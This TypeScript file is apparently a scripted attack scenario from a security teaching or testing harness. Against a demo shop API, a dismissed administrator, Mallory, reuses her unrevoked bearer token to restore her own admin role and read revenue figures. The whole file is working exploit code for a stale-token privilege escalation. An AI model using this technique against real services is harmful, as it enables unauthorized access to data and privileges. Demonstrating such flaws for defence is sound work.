import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';

/** Mallory is dismissed, and uses the token that she still has. */
const attack: Attack = async function* (send) {
  let requests = 0;
  const progress = (step: string, stolen = ''): AttackProgress => ({
    requests,
    stolen,
    length: stolen.length,
    step,
  });
  const ask = (method: string, path: string, token?: string, body?: unknown) => {
    requests += 1;
    const headers = {
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    };
    return send({
      method,
      path,
      headers,
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
  };
  const logIn = async (email: string, password: string) => {
    const { body } = await ask('POST', '/api/login', undefined, { email, password });
    return /"token":"([^"]+)"/.exec(body)?.[1] ?? 'none';
  };

  const ada = await logIn('ada@lovelace.example', 'analytical engine');
  const mallory = await logIn('mallory@shop.example', 'dynabook for all');
  yield progress('Ada and Mallory, both administrators, log in');

  await ask('PUT', '/api/users/3/role', ada, { role: 'customer' });
  yield progress('Ada takes the role away from Mallory');
  await ask('PUT', '/api/users/3/role', mallory, { role: 'admin' });
  yield progress('Mallory gives it back to herself, with the token that she has');

  const again = await logIn('mallory@shop.example', 'dynabook for all');
  const { status, body } = await ask('GET', '/api/revenue', again);
  if (status !== 200) return { ...progress('Mallory is a customer now, and stays one'), outcome: 'repelled' };
  const cents = /"cents":(\d+)/.exec(body)?.[1] ?? body;
  return {
    ...progress('Mallory has made herself an administrator again and reads the revenue', `${cents} cents`),
    outcome: 'succeeded',
  };
};

export default attack;
